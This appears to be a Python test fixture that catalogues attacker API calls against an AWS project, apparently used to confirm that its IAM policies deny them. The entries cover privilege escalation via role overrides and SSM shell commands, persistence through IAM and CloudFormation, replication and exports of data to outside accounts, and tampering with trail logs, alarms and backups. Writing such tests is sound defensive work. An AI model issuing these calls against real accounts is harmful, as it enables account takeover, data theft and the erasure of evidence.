"""An attacker's attempts by services and features that the product does not use."""

from tests.support.embedded.attacker import (
    ACCOUNT,
    ADMINISTRATOR,
    ALARM,
    CICD,
    DATABASE_ARN,
    DOCUMENT,
    EMPTY,
    PROJECT,
    REGION,
    SNAPSHOT,
    SNAPSHOT_ARN,
    TOPIC,
    TRAIL_BUCKET,
    TRAIL_GROUP,
    Way,
)
from tests.support.embedded.identities import arn

_OUTSIDE = "111122223333"
_PROBE, _VERIFY = f"{PROJECT}-probe-release", f"{PROJECT}-verify-release"
_FRONTEND = f"{PROJECT}-frontend-{ACCOUNT}"
_PROVIDER = f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"
_CLUSTER = f"{PROJECT}-cluster"
_PRUNABLE = {"ResourceARNList": [SNAPSHOT_ARN], "Tags": {"Prunable": "true"}}

# -- run something with another role, by ...
_RUNNING: list[Way] = [
    (
        "cicd",
        "ecs",
        "run_task",
        {
            "cluster": _CLUSTER,
            "taskDefinition": f"{PROJECT}-api-task",
            "overrides": {"taskRoleArn": arn(ADMINISTRATOR)},
        },
    ),
    ("cicd", "ecs", "execute_command", {"cluster": _CLUSTER, "task": "x", "command": "sh", "interactive": True}),
    (
        "cicd",
        "codedeploy",
        "update_deployment_group",
        {
            "applicationName": f"{PROJECT}-app",
            "currentDeploymentGroupName": f"{PROJECT}-dg",
            "serviceRoleArn": arn(ADMINISTRATOR),
        },
    ),
    (
        "execution",
        "codebuild",
        "create_project",
        {
            "name": f"{PROJECT}-x",
            "source": {"type": "NO_SOURCE"},
            "artifacts": {"type": "NO_ARTIFACTS"},
            "environment": {"type": "LINUX_CONTAINER", "image": "x", "computeType": "BUILD_GENERAL1_SMALL"},
            "serviceRole": arn(CICD),
        },
    ),
    ("execution", "glue", "create_job", {"Name": f"{PROJECT}-x", "Role": arn(CICD), "Command": {"Name": "glueetl"}}),
    ("cicd", "ssm", "send_command", {"DocumentName": "AWS-RunShellScript", "InstanceIds": ["i-12345678"]}),
    ("cicd", "ssm", "start_session", {"Target": f"ecs:{_CLUSTER}_x_x"}),
    ("cicd", "ssm", "create_association", {"Name": "AWS-RunShellScript"}),
    ("execution", "ssm", "create_activation", {"IamRole": CICD}),
    ("execution", "ssm", "create_document", {"Name": "attacker", "Content": "{}"}),
    ("execution", "ssm", "start_automation_execution", {"DocumentName": "AWS-ConfigureS3BucketVersioning"}),
    ("cicd", "lambda", "update_function_code", {"FunctionName": _VERIFY, "ZipFile": b"x"}),
    ("cicd", "lambda", "invoke", {"FunctionName": _PROBE}),
    (
        "cicd",
        "codedeploy",
        "put_lifecycle_event_hook_execution_status",
        {"deploymentId": "d-ABCDEFGHI", "lifecycleEventHookExecutionId": "x", "status": "Succeeded"},
    ),
]
# -- get lasting access to CloudFormation or IAM, by ...
_STAYING: list[Way] = [
    ("deploy", "cloudformation", "activate_type", {"TypeName": "Attacker::Role::Hook", "Type": "HOOK"}),
    ("deploy", "cloudformation", "set_type_configuration", {"TypeName": "Attacker::Role::Hook", "Configuration": "{}"}),
    (
        "deploy",
        "cloudformation",
        "update_stack",
        {"StackName": "ArtifactStack", "RoleARN": arn(ADMINISTRATOR), **EMPTY},
    ),
    (
        "deploy",
        "cloudformation",
        "create_stack_refactor",
        {"StackDefinitions": [{"StackName": "IdentityStack", "TemplateBody": "{}"}]},
    ),
    (
        "execution",
        "iam",
        "add_client_id_to_open_id_connect_provider",
        {"OpenIDConnectProviderArn": _PROVIDER, "ClientID": "x"},
    ),
    (
        "execution",
        "iam",
        "update_open_id_connect_provider_thumbprint",
        {"OpenIDConnectProviderArn": _PROVIDER, "ThumbprintList": ["0" * 40]},
    ),
    ("execution", "iam", "create_saml_provider", {"Name": "attacker", "SAMLMetadataDocument": "x" * 1000}),
    ("execution", "iam", "create_login_profile", {"UserName": "somebody", "Password": "Passw0rd!"}),
    ("execution", "iam", "create_service_linked_role", {"AWSServiceName": "ssm.amazonaws.com"}),
    (
        "execution",
        "budgets",
        "create_budget_action",
        {
            "AccountId": ACCOUNT,
            "BudgetName": f"{PROJECT}-monthly-80",
            "NotificationType": "ACTUAL",
            "ActionType": "APPLY_IAM_POLICY",
            "ActionThreshold": {"ActionThresholdValue": 1, "ActionThresholdType": "PERCENTAGE"},
            "Definition": {"IamActionDefinition": {"PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}},
            "ExecutionRoleArn": arn(ADMINISTRATOR),
            "ApprovalModel": "AUTOMATIC",
            "Subscribers": [{"SubscriptionType": "EMAIL", "Address": "attacker@example.com"}],
        },
    ),
]
# -- give an outsider access, or send him new data, by ...
_OPENING: list[Way] = [
    ("execution", "lambda", "create_function_url_config", {"FunctionName": _PROBE, "AuthType": "NONE"}),
    (
        "execution",
        "lambda",
        "add_permission",
        {"FunctionName": _PROBE, "StatementId": "x", "Action": "lambda:InvokeFunction", "Principal": "*"},
    ),
    (
        "execution",
        "s3",
        "put_bucket_replication",
        {
            "Bucket": _FRONTEND,
            "ReplicationConfiguration": {
                "Role": arn(CICD),
                "Rules": [{"Status": "Enabled", "Destination": {"Bucket": "arn:aws:s3:::attacker"}}],
            },
        },
    ),
    ("execution", "s3", "put_bucket_acl", {"Bucket": _FRONTEND, "ACL": "public-read"}),
    ("cicd", "s3", "put_bucket_policy", {"Bucket": _FRONTEND, "Policy": DOCUMENT}),
    (
        "execution",
        "rds",
        "start_export_task",
        {
            "ExportTaskIdentifier": "attacker",
            "SourceArn": SNAPSHOT_ARN,
            "S3BucketName": _FRONTEND,
            "IamRoleArn": arn(CICD),
            "KmsKeyId": "x",
        },
    ),
    (
        "execution",
        "rds",
        "start_db_instance_automated_backups_replication",
        {"SourceDBInstanceArn": DATABASE_ARN},
    ),
    (
        "execution",
        "rds",
        "create_db_instance_read_replica",
        {"DBInstanceIdentifier": "attacker", "SourceDBInstanceIdentifier": DATABASE_ARN},
    ),
    (
        "cicd",
        "rds",
        "restore_db_instance_from_db_snapshot",
        {"DBInstanceIdentifier": "attacker", "DBSnapshotIdentifier": SNAPSHOT},
    ),
    ("execution", "ec2", "create_vpc_peering_connection", {"VpcId": "vpc-1", "PeerOwnerId": _OUTSIDE}),
    (
        "execution",
        "ec2",
        "create_traffic_mirror_session",
        {
            "NetworkInterfaceId": "eni-1",
            "TrafficMirrorTargetId": "tmt-1",
            "TrafficMirrorFilterId": "tmf-1",
            "SessionNumber": 1,
        },
    ),
    ("execution", "ecr", "put_registry_policy", {"policyText": DOCUMENT}),
    (
        "execution",
        "events",
        "put_permission",
        {"StatementId": "x", "Principal": "*", "Action": "events:PutEvents"},
    ),
    ("execution", "kms", "put_key_policy", {"KeyId": "x", "PolicyName": "default", "Policy": DOCUMENT}),
    ("execution", "ssm", "modify_document_permission", {"Name": "x", "PermissionType": "Share"}),
]
# -- weaken the evidence, or shorten the retention of data, by ...
_QUIET: list[Way] = [
    *(
        (who, service, operation, arguments)
        for who in ("cicd", "execution")
        for service, operation, arguments in (
            ("s3", "put_object_lock_configuration", {"Bucket": TRAIL_BUCKET, "ObjectLockConfiguration": {}}),
            (
                "s3",
                "put_bucket_versioning",
                {"Bucket": TRAIL_BUCKET, "VersioningConfiguration": {"Status": "Suspended"}},
            ),
            ("resourcegroupstaggingapi", "tag_resources", _PRUNABLE),
        )
    ),
    (
        "execution",
        "logs",
        "put_account_policy",
        {"policyName": "attacker", "policyDocument": "{}", "policyType": "SUBSCRIPTION_FILTER_POLICY"},
    ),
    (
        "execution",
        "logs",
        "create_export_task",
        {"logGroupName": TRAIL_GROUP, "fromTime": 0, "to": 1, "destination": "attacker"},
    ),
    (
        "execution",
        "logs",
        "associate_kms_key",
        {"logGroupName": TRAIL_GROUP, "kmsKeyId": f"arn:aws:kms:{REGION}:{_OUTSIDE}:key/x"},
    ),
    (
        "execution",
        "logs",
        "put_metric_filter",
        {
            "logGroupName": TRAIL_GROUP,
            "filterName": ALARM,
            "filterPattern": "nothing",
            "metricTransformations": [{"metricName": "x", "metricNamespace": "x", "metricValue": "0"}],
        },
    ),
    ("execution", "sns", "unsubscribe", {"SubscriptionArn": f"{TOPIC}:11111111-2222-3333-4444-555555555555"}),
    (
        "execution",
        "sns",
        "add_permission",
        {"TopicArn": TOPIC, "Label": "x", "AWSAccountId": [_OUTSIDE], "ActionName": ["Publish"]},
    ),
    (
        "execution",
        "cloudwatch",
        "put_alarm_mute_rule",
        {"Name": "attacker", "Rule": {"Schedule": {"Expression": "cron(* * * * *)", "Duration": "PT1H"}}},
    ),
    ("cicd", "athena", "update_work_group", {"WorkGroup": "hannibal-cloudtrail-analysis", "State": "DISABLED"}),
    (
        "running",
        "rds",
        "add_tags_to_resource",
        {"ResourceName": SNAPSHOT_ARN, "Tags": [{"Key": "Prunable", "Value": "true"}]},
    ),
    # Conditions on a resource's tag ignore the case of its key.
    *(
        (who, "rds", "add_tags_to_resource", {"ResourceName": SNAPSHOT_ARN, "Tags": [{"Key": key, "Value": "true"}]})
        for who, key in (("execution", "prunable"), ("execution", "PRUNABLE"), ("cicd", "prunable"))
    ),
    ("running", "secretsmanager", "put_secret_value", {"SecretId": "hannibal/db/password", "SecretString": "{}"}),
    ("execution", "backup", "delete_recovery_point", {"BackupVaultName": "x", "RecoveryPointArn": SNAPSHOT_ARN}),
]
BY_SERVICES = [*_RUNNING, *_STAYING, *_OPENING, *_QUIET]
